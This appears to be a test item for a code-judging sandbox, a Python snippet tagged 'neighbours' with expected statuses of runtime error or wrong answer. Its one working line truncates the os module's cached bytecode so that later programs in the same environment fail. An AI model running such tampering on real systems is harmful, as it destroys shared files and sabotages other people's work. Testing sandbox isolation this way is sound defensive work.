# Empties the bytecode of the os module, for the programs to come.
# kind: neighbours
# form: check
# status: runtime_error|wrong_answer
import os, sys
open(os.path.join(os.path.dirname(os.__file__), '__pycache__', 'os.cpython-311.pyc'), 'wb').write(b'')
